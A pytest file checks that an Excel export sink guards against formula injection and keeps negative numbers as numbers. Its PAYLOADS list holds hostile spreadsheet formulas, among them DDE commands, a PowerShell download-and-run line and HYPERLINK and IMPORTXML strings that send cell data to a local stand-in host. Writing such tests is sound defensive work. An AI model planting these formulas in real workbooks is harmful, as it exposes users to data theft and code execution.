"""Formula injection: no cell of the workbook can run as a formula unless the user turns protection off."""

from __future__ import annotations

import logging
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from elspeth import Failure, Record, RunMetadata, RunResult

# Written independently of elspeth.spreadsheet, so the tests check the rule rather than restate it.
DANGEROUS_START = re.compile(r"^[\s\ufeff\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]")

PAYLOADS = [
    '=HYPERLINK("http://127.0.0.1/steal?x="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 127.0.0.1/shell.exe)'!A0",
    "+SUM(1+1)",
    "-2+3",
    "-5",
    "@SUM(1)",
    "\t=1+1",
    "\r=1",
    "\n=1",
    '=DDE("cmd";"/C calc";"!A0")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    '=IMPORTXML(CONCAT("http://127.0.0.1/?", A2), "//a")',
    "\uff1d1+1",
    "\uff0bSUM(1)",
    "\ufeff=1+1",
    "  =1+1",
    "\u200b@SUM(1)",
]


# A workbook is XML, whose readers turn a carriage return into a line feed; the sink writes LF itself.
AS_STORED = [p.replace("\r", "\n") for p in PAYLOADS]


def payload_result() -> RunResult:
    """Payloads in every place a string can reach a cell: headers, inputs, outputs, metrics, failures,
    aggregates, comparisons and the manifest."""
    records = [
        Record(
            row_id=payload,
            inputs={"payload": payload, payload: "column named by a payload"},
            outputs={"response": payload},
            metrics={"delta": -5, "ratio": -0.25, "label": payload},
            group=payload,
        )
        for payload in PAYLOADS
    ]
    failures = [
        Failure(row_id=p, inputs={"payload": p}, stage=p, error=p, output={"response": p}, group=p) for p in PAYLOADS
    ]
    aggregates = {
        "baseline": PAYLOADS[0],
        "experiments": {p: {"baseline": False, "aggregates": {p: {p: p, "delta": -5}}} for p in PAYLOADS},
        "comparisons": {p: {p: {"verdict": p}} for p in PAYLOADS},
    }
    metadata = RunMetadata(
        run_id=PAYLOADS[1],
        name=PAYLOADS[0],
        orchestrator="experiment",
        plugins=[{"domain": "sink", "name": PAYLOADS[2], "distribution": PAYLOADS[3], "version": PAYLOADS[4]}],
        extra={"note": PAYLOADS[6]},
        security_level=PAYLOADS[5],
    )
    return RunResult(records=records, failures=failures, aggregates=aggregates, metadata=metadata)


def string_cells(book: Workbook) -> list[tuple[str, str, Any]]:
    return [
        (ws.title, cell.coordinate, cell)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def test_no_cell_starts_with_a_formula_character(write_book: Any) -> None:
    path, book = write_book(payload_result())
    cells = string_cells(book)
    assert len(cells) > 10 * len(PAYLOADS), "the payloads should have reached every sheet"
    for title, where, cell in cells:
        assert not DANGEROUS_START.match(cell.value), f"{title}!{where} = {cell.value!r} could run as a formula"
        assert cell.data_type == "s", f"{title}!{where} is stored as {cell.data_type!r}, not as text"
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode(), f"{name} holds a formula"


def test_every_payload_is_kept_behind_the_guard(write_book: Any) -> None:
    _, book = write_book(payload_result())
    responses = [row[0] for row in book["Results"].iter_rows(min_row=2, values_only=True)]
    assert responses == ["'" + p for p in AS_STORED], "the Row ID column keeps each payload, guarded"
    header = next(book["Results"].iter_rows(max_row=1, values_only=True))
    assert "'" + PAYLOADS[0] in header, "a column named by a payload is guarded too"


def test_negative_numbers_stay_numbers(write_book: Any) -> None:
    _, book = write_book(payload_result())
    ws = book["Results"]
    header = next(ws.iter_rows(max_row=1, values_only=True))
    delta, ratio = header.index("Delta"), header.index("Ratio")
    for row in ws.iter_rows(min_row=2):
        assert row[delta].value == -5
        assert row[delta].data_type == "n"
        assert row[ratio].value == -0.25


def test_the_configured_guard_is_used(write_book: Any) -> None:
    _, book = write_book(payload_result(), sanitize_guard="|")
    assert book["Results"]["A2"].value == "|" + PAYLOADS[0]
    assert ("Sanitisation guard", "|") in [r[:2] for r in book["Manifest"].iter_rows(values_only=True)]


def test_turning_it_off_writes_payloads_verbatim_as_text_and_warns(
    write_book: Any, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING, logger="elspeth"):
        path, book = write_book(payload_result(), sanitize_formulas=False)
    ws = book["Results"]
    assert [row[0].value for row in ws.iter_rows(min_row=2)] == AS_STORED
    assert all(row[0].data_type == "s" for row in ws.iter_rows(min_row=2)), "still text, never a live formula"
    (warning,) = [r for r in caplog.records if r.levelno == logging.WARNING]
    assert "sanitize_formulas: false" in warning.getMessage()
    assert str(path) in warning.getMessage()
    assert ("Formula sanitisation", "off") in [r[:2] for r in book["Manifest"].iter_rows(values_only=True)]


def test_explicit_true_is_the_default(write_book: Any, tmp_path: Path) -> None:
    _, book = write_book(payload_result(), sanitize_formulas=True)
    assert book["Results"]["A2"].value == "'" + PAYLOADS[0]
